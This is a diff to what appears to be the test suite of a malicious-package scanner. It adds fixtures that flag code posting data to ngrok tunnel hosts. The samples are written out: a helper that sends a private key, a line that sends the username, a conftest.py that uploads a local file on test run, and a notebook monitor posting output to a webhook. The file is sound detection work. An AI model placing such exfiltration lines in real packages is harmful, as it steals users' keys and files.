@@ -28,6 +28,13 @@ NOTIFY = ("import requests\nfrom configparser import ConfigParser\n"
           "    requests.post(url, data={'chat_id': chat, 'text': text})\n")
 
 
+# nova_ai/__init__.py (abridged): the cell's output, to the author's n8n webhook, when the user runs %%notify
+NOVA = ("import requests\nWEBHOOK_URL = 'https://unsequenced-shrewdly-elly.ngrok-free.dev/webhook/code-monitor'\n"
+        "class Monitor:\n    def send_update(self, output, final=False):\n"
+        "        payload = {'message': output[-3500:], 'chat_id': self.chat_id, 'is_final': final}\n"
+        "        requests.post(WEBHOOK_URL, json=payload, timeout=10)\n")
+
+
 def setup_py(body: str) -> dict[str, str]:
     return {"setup.py": body + SETUP_TAIL, "pkg/__init__.py": ""}
 
@@ -103,10 +110,10 @@ CASES = [
      (P, "pkg", sdist("pkg", setup_py('import requests\nrequests.get("http://x1y2z3.oastify.com/p")'))),
      (P, "pkg", sdist("pkg", setup_py('URL = "https://webhooks.example.com/site"')))),
     ("STATIC-TUNNEL-CALLBACK",  # ngrok's newer free domain (hexdecli-style key upload)
-     (P, "pkg", sdist("pkg", module('import requests\nrequests.post("https://a-b-c.ngrok-free.dev/tron", [key])'))),
+     (P, "pkg", sdist("pkg", module('import requests\ndef perm(private_key):\n    requests.post("https://a-b-c.ngrok-free.dev/tron", [{"ptivate_key", private_key}])'))),
      (P, "pkg", sdist("pkg", module('TUNNEL_DOCS = "https://ngrok.com/docs/getting-started"')))),
     ("STATIC-TUNNEL-CALLBACK",  # a wildcard in a CSP allow-list (coinley-pay's bundle) names no host
-     (P, "pkg", sdist("pkg", module('import requests\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
+     (P, "pkg", sdist("pkg", module('import getpass, requests\ndata = getpass.getuser()\nrequests.get("https://k3j2.ngrok-free.app/p?d=" + data)'))),
      (P, "pkg", sdist("pkg", module('CSP = ["https://*.vercel.app", "https://*.ngrok-free.app", "https://*.pages.dev"]')))),
     # a tunnel named where nothing connects: the default value of a form in a dev server
     # (adobe/helix-onedrive-cli); the reverse shell to ngrok's TCP tunnel (atlasctf-style) connects
@@ -117,6 +124,14 @@ CASES = [
                                 "import express from 'express';\nconst html = ['<form method=\"post\" action=\"/subs\">',\n"
                                 "  'hook: <input name=\"h\" value=\"https://01fe5492.ngrok.io/hook\">'];\n"
                                 "export default (req, res) => res.end(html.join('\\n'));\n"}))),
+    # a notebook magic posting the cell's output to its author's bot service behind a tunnel
+    # (nova-ai-monitor-asif) takes nothing of the user's; a wallet helper posting the private key
+    # it is given (hexdecli) and a module posting a file it reads do
+    ("STATIC-TUNNEL-CALLBACK",
+     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": "", "tests/__init__.py": "",
+                              "tests/conftest.py": "import requests, pathlib\nrequests.post('https://a-b-c.ngrok-free.dev/x', "
+                                                   "data=pathlib.Path('notes.txt').read_text())\n"})),
+     (P, "pkg", sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": NOVA}))),
     # a notifier that reads the user's own bot token from their config (notifator) sends to the
     # user; the same code with a bot token written into it sends to whoever wrote it
     ("STATIC-WEBHOOK-EXFIL",
